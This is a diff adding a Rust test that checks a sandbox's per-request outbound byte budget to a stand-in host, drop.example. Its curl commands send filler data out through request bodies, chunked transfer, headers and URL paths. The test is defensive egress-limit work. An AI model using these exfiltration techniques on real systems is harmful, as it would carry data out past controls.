@@ -135,6 +135,35 @@ lab_tests! {
         }
     }
 
+    fn each_request_is_bounded_by_itself(lab) {
+        let thief = thief();
+        let file = lab.folder("given", Identity::Own).join("each.toml");
+        let policy = "[[allow]]\nrule = \"http://drop.example:8099\"\nbudget_each = \"4K\"\n";
+        std::fs::write(&file, policy).expect("a policy");
+        let sandbox = || Sandbox::plain(lab, Identity::Own)
+            .option("-P", "base")
+            .option("-p", &file.to_string_lossy())
+            .pin("drop.example:8099=127.0.0.1:8099");
+        // Small ones as many as there are, on one connection.
+        let small = "head -c 3000 /dev/zero >/tmp/s; curl -sS --data-binary @/tmp/s $URL/1 --next -sS --data-binary @/tmp/s $URL/2 --next -sS --data-binary @/tmp/s $URL/3";
+        let outcome = sandbox().run(&bash(small));
+        assert_eq!(outcome.stdout, "arrived\narrived\narrived\n", "{outcome}");
+        assert!(thief.take().len() > 9000);
+        // A large one by no way: of a length that is said, in chunks, or in fields.
+        for large in [
+            "head -c 5000 /dev/zero | curl -sS --data-binary @- $URL/",
+            "head -c 500000 /dev/zero | curl -sS -H 'Transfer-Encoding: chunked' -H 'Expect:' --data-binary @- $URL/",
+            "curl -sS -H \"X-Data: $(head -c 5000 /dev/zero | tr '\\0' a)\" $URL/",
+            "curl -sS \"$URL/$(head -c 5000 /dev/zero | tr '\\0' a)\"",
+        ] {
+            let outcome = sandbox().run(&bash(large));
+            assert!(!outcome.stdout.contains("arrived"), "{large}: {outcome}");
+            assert!(outcome.stderr.contains("raise `budget_each`"), "{large}: {outcome}");
+            let sent = thief.take().len();
+            assert!(sent <= 4096, "{large}: {sent}");
+        }
+    }
+
     fn what_fits_arrives(lab) {
         let thief = thief();
         let script = "head -c 900000 /dev/zero | curl -sS --data-binary @- $URL/";
